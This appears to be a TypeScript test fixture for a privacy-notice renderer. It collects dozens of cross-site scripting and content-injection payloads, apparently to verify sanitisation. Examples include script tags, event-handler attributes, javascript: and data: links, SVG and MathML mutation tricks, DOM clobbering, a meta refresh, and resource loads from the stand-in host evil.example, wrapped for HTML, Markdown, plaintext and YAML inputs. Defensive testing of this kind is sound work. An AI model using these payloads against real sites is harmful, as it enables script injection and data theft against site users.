import type { Format } from "../../server/src/notice/notice.ts";

/** Texts that would run `attacked()` or fetch from evil.example where a page takes them as they are. */
const html: readonly string[] = [
  "<script>attacked()</script>",
  "<script src=//evil.example/x.js></script>",
  "<ScRiPt>attacked()</sCrIpT>",
  "<script type=module>import '//evil.example/x.js'</script>",
  "<<script>script>attacked()<</script>/script>",
  "<img src=x onerror=attacked()>",
  "<img src=//evil.example/x.png>",
  "<img srcset='//evil.example/x.png 1x'>",
  "<img src=x:x onerror='attacked()' //",
  "<picture><source srcset=//evil.example/x.png><img></picture>",
  "<body onload=attacked()>",
  "<div onpointerenter=attacked() onclick=attacked() onfocus=attacked() tabindex=0 autofocus>hover</div>",
  "<p style='background:url(//evil.example/x.png)'>styled</p>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>body{background:url(//evil.example/x.png)}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=preload as=image href=//evil.example/x.png>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<svg onload=attacked()></svg>",
  "<svg><script>attacked()</script></svg>",
  "<svg><script href=//evil.example/x.js /></svg>",
  "<svg><animate onbegin=attacked() attributeName=x dur=1s></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=attacked()></svg>#x'></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.attacked()</script>'></iframe></foreignObject></svg>",
  "<svg><a xlink:href='javascript:attacked()'><text x=20 y=20>link</text></a></svg>",
  "<svg><image href=//evil.example/x.png /></svg>",
  "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:attacked()'>math</maction></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=attacked()&gt;'>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=attacked() src>'>",
  "<noscript><p title='</noscript><img src=x onerror=attacked()>'>",
  "<template><img src=x onerror=attacked()></template>",
  "<textarea><img src=x onerror=attacked()></textarea>",
  "<title><img src=x onerror=attacked()></title>",
  "<select><style></select><img src=x onerror=attacked()></style></select>",
  "<xmp><p title='</xmp><img src=x onerror=attacked()>'>",
  "<!--><img src=x onerror=attacked()>-->",
  "<!-- --!><img src=x onerror=attacked()> -->",
  "<![CDATA[<img src=x onerror=attacked()>]]>",
  "<?xml-stylesheet href='//evil.example/x.css'?><p>instruction</p>",
  "<base href=//evil.example/><a href=x>based</a><img src=x.png>",
  "<iframe src=//evil.example></iframe>",
  "<iframe srcdoc='<script>parent.attacked()</script>'></iframe>",
  "<iframe src='javascript:parent.attacked()'></iframe>",
  "<object data=//evil.example/x></object>",
  "<embed src=//evil.example/x>",
  "<video src=//evil.example/x poster=//evil.example/y onerror=attacked()></video>",
  "<audio src=//evil.example/x onerror=attacked()></audio>",
  "<video><source onerror=attacked()></video>",
  "<details open ontoggle=attacked()><summary>details</summary>text</details>",
  "<marquee onstart=attacked()>marquee</marquee>",
  "<form action=//evil.example><button>button</button><input type=image src=//evil.example/x.png></form>",
  "<form action='javascript:attacked()'><input type=submit></form>",
  "<button formaction='javascript:attacked()' form=f>button</button>",
  "<isindex action='javascript:attacked()' type=image>",
  "<a href='javascript:attacked()'>link</a>",
  "<a href='&#106;avascript&colon;attacked()'>link</a>",
  "<a href='java&Tab;script:attacked()'>link</a>",
  "<a href='&#1;javascript:attacked()'>link</a>",
  "<a href='JaVaScRiPt:attacked()'>link</a>",
  "<a href='data:text/html,<script>attacked()</script>'>link</a>",
  "<a href='vbscript:attacked()'>link</a>",
  "<a href='command:workbench.action.terminal.new'>link</a>",
  "<a href='vscode://evil.example/x'>link</a>",
  "<a href='file:///project/privacy-policy.md'>link</a>",
  "<a href='blob:http://evil.example/x'>link</a>",
  "<a href=//evil.example ping=//evil.example/ping target=_blank>link</a>",
  "<a href='https://example.com' onclick=attacked()>link</a>",
  "<img name=body><img id=body><form id=document name=getElementById><input name=attributes></form>",
  "<form name=querySelector><input id=parentNode></form><a id=defaultView name=location href=#>clobbered</a>",
  "<p class='checklist' data-act=fix data-requirement=retention>posing as the page</p>",
  "<p data-texts='{}' data-line=1 data-key=x contenteditable>posing as the page</p>",
  "<custom-element onclick=attacked()>custom</custom-element>",
  "<p is=x-attack slot=x part=x popover id=p>popover</p><button popovertarget=p>show</button>",
  "<dialog open><p>dialog</p></dialog>",
  "<plaintext><img src=x onerror=attacked()>",
];

const refresh = "<meta http-equiv=refresh content='0;url=//evil.example'>";

const markdown: readonly string[] = [
  "[link](javascript:attacked())",
  "[link](<java\tscript:attacked()>)",
  "[link](javascript&colon;attacked())",
  "[link][1]\n\n[1]: javascript:attacked()",
  '[link](https://example.com "x\\"onclick=attacked()")',
  "<javascript:attacked()>",
  "![x](//evil.example/x.png)",
  '![x](x"onerror="attacked())',
  "![<img src=x onerror=attacked()>](x)",
  "```html\n<script>attacked()</script>\n```",
  "```<img/src=x/onerror=attacked()>\ncode\n```",
  "`<img src=x onerror=attacked()>`",
  "text[^1]\n\n[^1]: <img src=x onerror=attacked()>",
  "| <img src=x onerror=attacked()> |\n|---|\n| <svg onload=attacked()> |",
  "<p>one\n\n<img src=x onerror=attacked()>\n\n</p>",
  '---\ntitle: <script>attacked()</script>\nlanguage: "<img src=x onerror=attacked()>"\n---\ntext',
  "+++\ntitle = '<img src=x onerror=attacked()>'\n+++\ntext",
];

const values: readonly string[] = [
  "<script>attacked()</script>",
  "<img src=//evil.example/x.png onerror=attacked()>",
  "javascript:attacked()",
  "https://example.com/'onclick=attacked()",
  "</main></body><iframe src=//evil.example>",
  "[link](javascript:attacked())",
];

/** A YAML notice that has a value wherever one is shown. */
function noticeWith(value: string): string {
  const shown = JSON.stringify(value);
  return [
    ...[`title: ${shown}`, `introduction: ${shown}`],
    ...["controllers:", `  - name: ${shown}`, `    address: ${shown}`, `    email: ${shown}`, `    website: ${shown}`],
    ...["processing:", `  - name: ${shown}`, `    purposes: [${shown}, ${shown}]`, `    retention: ${shown}`],
    ...["sections:", `  - heading: ${shown}`, `    text: ${shown}`, `language: ${shown}`, ""],
  ].join("\n");
}

export interface Injection {
  readonly format: Format;
  readonly text: string;
}

/** Known ways to get something to run or to load. */
export const injections: readonly Injection[] = [
  ...[...html, refresh].flatMap((text) => [
    { format: "html" as const, text },
    { format: "markdown" as const, text: `# Notice\n\n${text}\n` },
  ]),
  ...markdown.map((text) => ({ format: "markdown" as const, text })),
  ...[...html, ...values].map((text) => ({ format: "plaintext" as const, text: `Notice\n======\n\n${text}\n` })),
  ...values.map((value) => ({ format: "yaml" as const, text: noticeWith(value) })),
];

/** What the page's policy has to stop by itself, were it not sanitised: all but what goes to another page. */
export const unsanitised: readonly string[] = html;
